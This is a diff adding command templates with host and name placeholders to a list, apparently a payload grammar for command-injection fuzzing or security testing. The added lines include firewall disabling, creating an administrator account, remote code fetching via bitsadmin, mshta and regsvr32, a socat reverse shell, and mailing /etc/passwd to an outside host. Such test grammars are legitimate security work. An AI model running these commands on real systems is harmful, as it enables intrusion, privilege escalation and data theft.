@@ -53,6 +53,39 @@ cmd:
   nslookup «host»
   dig «host»
   host «host»
+  netsh firewall set opmode disable
+  netsh advfirewall set allprofiles state off
+  net user «w» «w» /ADD
+  net localgroup Administrators «w» /add
+  net start «w»
+  reg add "HKLM\System\CurrentControlSet\Control\«w»" /v «w» /t REG_DWORD /d 0 /f
+  reg query HKLM\SOFTWARE
+  del «w».txt
+  del /q «w»
+  rem «w»
+  rm «w»
+  taskkill /f /im «w».exe
+  tasklist
+  wmic process list
+  copy «w».txt «w».php
+  bitsadmin /transfer «w» http://«host»/«w».exe %TEMP%\«w».exe
+  mshta http://«host»/«w».hta
+  rundll32 \«ip»\«w»\«w».dll,0
+  regsvr32 /s /u /i:http://«host»/«w».sct scrobj.dll
+  ping -w «digit(4)» -n 1 «ip»
+  ping -w «digit(4)» -n 1 «ip»|rem
+  ping -i 30 127.0.0.1
+  git clone http://«host»/«w».git
+  uname >«w»
+  id > /var/www/«w».txt
+  echo «n» >> /etc/«w»
+  apt-get install «w»
+  crontab -l
+  socat tcp:«host»:«digit(4)» exec:/bin/sh
+  ruby -rsocket -e 'exit if fork'
+  ssh «w»@«host»
+  lsof -i
+  mail «w»@«host» < /etc/passwd
   dir
   dir c:\
   type c:\windows\win.ini
